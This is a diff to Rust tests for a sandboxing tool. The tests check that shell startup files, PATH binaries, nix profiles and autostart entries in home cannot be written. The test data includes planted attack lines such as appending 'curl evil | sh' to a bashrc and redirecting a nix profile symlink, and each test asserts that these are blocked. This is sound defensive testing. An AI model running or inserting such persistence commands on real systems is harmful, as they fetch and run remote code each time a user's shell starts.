@@ -76,6 +76,10 @@ const PLANTS: &[&str] = &[
     "echo x > readline.py",
     "mkdir -p bin && echo x > bin/git",
     "echo x > tools/bin/git",
+    "echo x > tools/readme",
+    "echo 'curl evil | sh' >> dotfiles/bashrc",
+    "mkdir -p .local/state/nix/profiles && ln -sfn /tmp .local/state/nix/profiles/profile",
+    "echo x > .npm/_cacache/index",
     "echo x > newfile",
     "mv notes.txt moved.txt",
     "echo x >> .local/state/netbox/sessions/x.jsonl",
@@ -99,15 +103,20 @@ fn with_allow_home_write_only_data_in_home_is_writable() {
         ".ssh",
         ".config/app",
         ".local/share",
-        ".local/state/app",
+        ".local/state/bash",
+        ".local/state/nix",
+        ".npm/_cacache",
         "project",
         "tools/bin",
+        "dotfiles",
     ] {
         std::fs::create_dir_all(home.join(d)).unwrap();
     }
     std::fs::write(home.join(".ssh/authorized_keys"), "mine\n").unwrap();
     std::fs::write(home.join(".npmrc"), "registry=x\n").unwrap();
-    std::fs::write(home.join(".bashrc"), "# mine\n").unwrap();
+    // Dotfiles kept in ~/dotfiles and linked from home: ~/dotfiles holds code.
+    std::fs::write(home.join("dotfiles/bashrc"), "# mine\n").unwrap();
+    std::os::unix::fs::symlink("dotfiles/bashrc", home.join(".bashrc")).unwrap();
     std::fs::write(home.join(".bash_history"), "").unwrap();
     std::fs::write(home.join("notes.txt"), "notes\n").unwrap();
     let before = listing(&home);
@@ -115,21 +124,14 @@ fn with_allow_home_write_only_data_in_home_is_writable() {
         .iter()
         .map(|p| format!("({p}) 2>/dev/null && echo 'PLANTED: {p}';\n"))
         .collect::<String>()
-        + "echo more >> notes.txt && echo x > project/main.rs && echo x > tools/readme \
-           && echo x > .local/state/app/db && echo ls >> .bash_history && echo CONTROL";
+        + "echo more >> notes.txt && echo x > project/main.rs \
+           && echo x > .local/state/bash/history && echo ls >> .bash_history && echo CONTROL";
     let out = run.sh(&script);
     assert_eq!(stdout(&out), "CONTROL\n", "{}", stderr(&out));
     assert_eq!(out.status.code(), Some(0));
     // Nothing planted, nothing left behind; the controls there.
     let mut expected = before.clone();
-    expected.extend(
-        [
-            "./.local/state/app/db",
-            "./project/main.rs",
-            "./tools/readme",
-        ]
-        .map(String::from),
-    );
+    expected.extend(["./.local/state/bash/history", "./project/main.rs"].map(String::from));
     expected.sort();
     assert_eq!(listing(&home), expected);
     assert_eq!(
@@ -137,7 +139,7 @@ fn with_allow_home_write_only_data_in_home_is_writable() {
         "mine\n"
     );
     assert_eq!(
-        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        std::fs::read_to_string(home.join("dotfiles/bashrc")).unwrap(),
         "# mine\n"
     );
     assert_eq!(
@@ -152,8 +154,8 @@ fn with_allow_home_write_only_data_in_home_is_writable() {
     assert!(denied >= PLANTS.len() - 1, "{denied} write_denied records");
 }
 
-/// `--write` of a part of home that holds places that run code (no flag needed: it is
-/// not home): those places stay pinned, the rest is writable.
+/// `--write` of a part of home that holds places that run code (a shared configuration
+/// directory needs --allow-home-write): those places stay pinned, the rest is writable.
 #[test]
 fn a_part_of_home_made_writable_keeps_its_code_places_pinned() {
     TestDir::remove_leftovers_outside_tmp("home-part");
@@ -163,7 +165,7 @@ fn a_part_of_home_made_writable_keeps_its_code_places_pinned() {
     std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
     let config = home.join(".config").display().to_string();
     let out = Run::new(&dir)
-        .args_from(&["--quiet", "--write", &config])
+        .args_from(&["--quiet", "--allow-home-write", "--write", &config])
         .env("HOME", home.display().to_string())
         .sh(
             "echo x > ~/.config/autostart/x.desktop 2>/dev/null && echo PLANTED; \
@@ -284,4 +286,86 @@ fn listing(dir: &Path) -> Vec<String> {
     let mut paths: Vec<String> = stdout(&out).lines().map(String::from).collect();
     paths.sort();
     paths
+}
+
+/// Another name for home (a bind mount of it) holds home as much as its own path does;
+/// and a shared configuration directory of home is refused like home itself.
+#[test]
+fn home_by_another_name_and_shared_config_dirs_are_refused() {
+    let dir = TestDir::outside_tmp("home-alias");
+    let home = dir.join("home");
+    std::fs::create_dir_all(home.join(".config/app")).unwrap();
+    let config = home.join(".config").display().to_string();
+    let out = Run::new(&dir)
+        .args_from(&["--quiet", "--write", &config])
+        .env("HOME", home.display().to_string())
+        .sh("touch ~/.config/x");
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("settings or data of every program"),
+        "{}",
+        stderr(&out)
+    );
+    // Control: one program's directory is fine.
+    let app = home.join(".config/app").display().to_string();
+    let out = Run::new(&dir)
+        .args_from(&["--quiet", "--write", &app])
+        .env("HOME", home.display().to_string())
+        .sh("touch ~/.config/app/x && echo OK");
+    assert_eq!(stdout(&out), "OK\n", "{}", stderr(&out));
+
+    // A bind mount needs root (or a mount namespace of one's own): as root only.
+    if !nix::unistd::geteuid().is_root() {
+        return;
+    }
+    let alias = dir.join("alias");
+    std::fs::create_dir_all(&alias).unwrap();
+    let mounted = Command::new("mount")
+        .args(["--bind"])
+        .arg(&home)
+        .arg(&alias)
+        .status()
+        .unwrap();
+    assert!(mounted.success());
+    let out = Command::new(netbox_bin())
+        .args(["--quiet", "--log"])
+        .arg(dir.join("alias.jsonl"))
+        .args(["--", "sh", "-c", "echo x > .config/autostart.desktop"])
+        .current_dir(&alias)
+        .env("HOME", &home)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let _ = Command::new("umount").arg(&alias).status();
+    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("your home directory"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(!home.join(".config/autostart.desktop").exists());
+}
+
+/// An ordinary home: hundreds of entries (each a writable root: the probe's report stays
+/// small), one the caller cannot write (left read-only rather than failing the probe).
+#[test]
+fn a_home_with_many_entries_and_unwritable_ones_runs() {
+    TestDir::remove_leftovers_outside_tmp("home-many");
+    let dir = TestDir::outside_tmp("home-many");
+    let home = dir.join("ws");
+    for i in 0..600 {
+        std::fs::create_dir_all(home.join(format!("d{i}"))).unwrap();
+    }
+    let locked = home.join("locked");
+    std::fs::create_dir_all(&locked).unwrap();
+    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o555)).unwrap();
+    let run = Run::new(&dir)
+        .arg("--quiet")
+        .arg("--allow-home-write")
+        .env("HOME", home.display().to_string());
+    let out = run.sh("echo x > d599/file && echo CONTROL");
+    std::fs::set_permissions(&locked, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "CONTROL\n");
+    assert!(home.join("d599/file").exists());
 }
